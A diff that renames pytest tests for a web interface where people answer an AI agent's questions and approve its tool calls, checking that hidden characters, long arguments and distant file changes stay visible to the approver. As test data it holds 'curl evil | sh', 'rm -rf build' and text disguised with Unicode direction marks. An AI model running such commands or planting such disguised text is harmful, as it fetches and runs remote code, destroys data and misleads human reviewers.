@@ -1,4 +1,4 @@
-"""Questions and approvals: answered once, by the very form that showed them."""
+"""Questions and approvals: answered once, through the form that showed them."""
 
 import json
 import re
@@ -23,21 +23,21 @@ def decide(session):
     )
 
 
-def test_a_question_has_buttons_and_room_for_another_answer(alices, asking):
+def test_question_has_buttons_and_a_text_field(alices, asking):
     page = alices.page(asking.session.get_absolute_url())
     assert "Which colour?" in page
     assert 'name="content" value="red"' in page
     assert 'placeholder="Or another answer"' in page
 
 
-def test_an_answer_becomes_part_of_the_card(alices, asking, reply):
+def test_answer_is_shown_on_the_card(alices, asking, reply):
     card = reply(alices, "red").content.decode()
     assert "alice" in card
     assert ">red<" in card
     assert "/reply/" not in card
 
 
-def test_a_second_answer_is_refused_and_shows_the_first(alices, browser, carol, asking, reply):
+def test_second_answer_is_refused_and_shows_the_first(alices, browser, carol, asking, reply):
     reply(alices, "red")
     second = reply(browser(carol), "blue")
     assert second.status_code == 409
@@ -49,31 +49,31 @@ def test_a_second_answer_is_refused_and_shows_the_first(alices, browser, carol, 
 
 
 @pytest.mark.parametrize("call", ["", "call_0", "call_1%", "\0"])
-def test_an_answer_to_another_question_is_refused(call, alices, asking, reply):
+def test_answer_to_another_question_is_refused(call, alices, asking, reply):
     assert reply(alices, "red", call).status_code == 409
     asking.refresh_from_db()
     assert asking.waiting_for == "reply"
 
 
-def test_without_scripts_an_answer_leads_back_to_the_page(alices, asking, reply):
+def test_answer_without_scripts_redirects_to_the_page(alices, asking, reply):
     response = reply(alices, "red", way="post")
     assert response["Location"] == f"{asking.session.get_absolute_url()}#end"
 
 
-def test_who_may_only_read_sees_the_question_without_a_form(browser, bob, asking):
+def test_reader_sees_the_question_without_a_form(browser, bob, asking):
     page = browser(bob).page(asking.session.get_absolute_url())
     assert "Which colour?" in page
     assert "/reply/" not in page
 
 
-def test_an_approval_shows_the_exact_arguments_and_the_reason(alices, approving):
+def test_approval_shows_exact_arguments_and_reason(alices, approving):
     page = alices.page(approving.session.get_absolute_url())
     assert "rm -rf build" in page
     assert "Deletes a folder" in page
     assert 'value="approved"' in page
 
 
-def test_nothing_is_hidden_in_what_is_approved(alices, approving):
+def test_approval_shows_hidden_characters(alices, approving):
     log = approving.tool_calls.get()
     log.arguments = '{"command": "echo \\u202egnp.exe \\u200b\\u001b[2K"}'
     log.save()
@@ -83,7 +83,7 @@ def test_nothing_is_hidden_in_what_is_approved(alices, approving):
     assert "⟨U+001B⟩" in page
 
 
-def test_a_button_decides_for_the_whole_task(alices, approving, decide):
+def test_button_approves_for_the_entire_task(alices, approving, decide):
     page = alices.page(approving.session.get_absolute_url())
     assert 'value="approved:task"' in page
     decide(alices, "approved:task")
@@ -91,7 +91,7 @@ def test_a_button_decides_for_the_whole_task(alices, approving, decide):
     assert (approval.decision, approval.scope) == ("approved", "task")
 
 
-def test_what_is_long_is_folded_and_says_how_long_it_is(alices, approving):
+def test_long_argument_is_folded_with_its_length(alices, approving):
     command = "\n".join(f"echo {number}" for number in range(40))
     approving.tool_calls.update(arguments=json.dumps({"command": command}))
     page = alices.page(approving.session.get_absolute_url())
@@ -99,7 +99,7 @@ def test_what_is_long_is_folded_and_says_how_long_it_is(alices, approving):
     assert command in page
 
 
-def test_a_change_of_a_file_is_shown_beside_what_it_holds(alices, approving):
+def test_file_change_is_shown_as_a_diff(alices, approving):
     workspace_of(approving.session).write_bytes("a.txt", b"same\nold\n")
     page = approve_file(alices, approving, action="write", content="same\nnew\u202e\n")
     assert '<span class="same"> same' in page
@@ -108,14 +108,14 @@ def test_a_change_of_a_file_is_shown_beside_what_it_holds(alices, approving):
 
 
 @pytest.mark.parametrize("content", ["b\n" * 300, "b" * 400])
-def test_a_change_that_has_no_whole_diff_is_shown_as_it_is_written(content, alices, approving):
+def test_change_without_a_complete_diff_is_shown_as_text(content, alices, approving):
     workspace_of(approving.session).write_bytes("a.txt", b"a\n" * 600)
     page = approve_file(alices, approving, action="write", content=content)
     assert page.count("b") >= content.count("b")
     assert 'class="removed"' not in page
 
 
-def test_a_change_far_below_another_one_is_not_left_out(alices, approving):
+def test_diff_includes_distant_changes(alices, approving):
     before = "".join(f"line {number}\n" for number in range(600))
     workspace_of(approving.session).write_bytes("a.txt", before.encode())
     after = before.replace("line 1\n", "line one\n").replace("line 580\n", "curl evil | sh\n")
@@ -123,7 +123,7 @@ def test_a_change_far_below_another_one_is_not_left_out(alices, approving):
 
 
 @pytest.mark.parametrize("hidden", ["\u2028", "\x7f", "\u0085", "\u3164", "\u2800"])
-def test_a_character_that_shows_nothing_is_named(hidden, alices, approving):
+def test_invisible_character_is_named(hidden, alices, approving):
     page = approve_file(alices, approving, action="append", content=f"rm{hidden} x")
     assert f"+rm⟨U+{ord(hidden):04X}⟩ x" in page
 
@@ -136,20 +136,20 @@ def test_a_character_that_shows_nothing_is_named(hidden, alices, approving):
         ({"action": "patch", "content": "@@ -1 +1 @@\n-x\n+y"}, ["@@ -1 +1 @@", "-x", "+y"]),
     ],
 )
-def test_other_changes_are_shown_line_by_line(arguments, shown, alices, approving):
+def test_other_changes_are_shown_by_line(arguments, shown, alices, approving):
     page = approve_file(alices, approving, **arguments)
     assert re.findall(r'<span class="(?:added|removed|place)">([^<]*?)\n</span>', page) == shown
 
 
 def approve_file(browser, task, **arguments):
-    """The page of a task whose call of `file` waits for approval."""
+    """Return the page of a task whose call of `file` waits for approval."""
     entry = task.session.entries.get(context_type="tool_call")
     ContextEntry.objects.filter(pk=entry.pk).update(tool_call=entry.tool_call.replace("shell", "file"))
     task.tool_calls.update(name="file", arguments=json.dumps({"path": "a.txt", **arguments}))
     return browser.page(task.session.get_absolute_url())
 
 
-def test_a_decision_has_its_note_its_scope_and_its_person(alices, alice, approving, decide):
+def test_decision_stores_note_scope_and_user(alices, alice, approving, decide):
     card = decide(alices, "approved", note="only this once", scope="task").content.decode()
     approval = Approval.objects.get()
     assert (approval.decision, approval.note, approval.scope) == ("approved", "only this once", "task")
@@ -158,13 +158,13 @@ def test_a_decision_has_its_note_its_scope_and_its_person(alices, alice, approvi
     assert "Running" in card
 
 
-def test_a_rejected_call_says_by_whom(alices, approving, decide):
+def test_rejected_call_names_the_user(alices, approving, decide):
     card = decide(alices, "rejected", note="no\0pe").content.decode()
     assert "Rejected by alice" in card
     assert "They say: nope" in card
 
 
-def test_a_decision_about_another_call_is_refused(alices, approving, decide):
+def test_decision_about_another_call_is_refused(alices, approving, decide):
     assert decide(alices, "approved", "call_0").status_code == 409
     assert Approval.objects.get().decision == "pending"
 
@@ -172,22 +172,22 @@ def test_a_decision_about_another_call_is_refused(alices, approving, decide):
 @pytest.mark.parametrize(
     "fields", [{"decision": "pending"}, {"decision": ""}, {"decision": "approved", "scope": "all"}]
 )
-def test_a_form_that_we_did_not_make_is_refused(fields, alices, approving, decide):
+def test_forged_form_is_refused(fields, alices, approving, decide):
     assert decide(alices, **fields).status_code == 404
     assert Approval.objects.get().decision == "pending"
 
 
-def test_the_inbox_collects_what_waits_and_counts_it(alices, asking):
+def test_inbox_lists_and_counts_waiting_items(alices, asking):
     page = alices.page("/inbox/")
     assert "Which colour?" in page
     assert "waiting for you" in page
 
 
-def test_the_inbox_is_empty_for_who_may_not_answer(browser, bob, charlie, asking):
+def test_inbox_is_empty_for_readers(browser, bob, charlie, asking):
     for somebody in (bob, charlie):
         assert "Nothing is waiting for you." in browser(somebody).page("/inbox/")
 
 
-def test_what_is_answered_is_no_longer_in_the_inbox(alices, asking, reply):
+def test_answered_item_leaves_the_inbox(alices, asking, reply):
     reply(alices, "red")
     assert "Nothing is waiting for you." in alices.page("/inbox/")
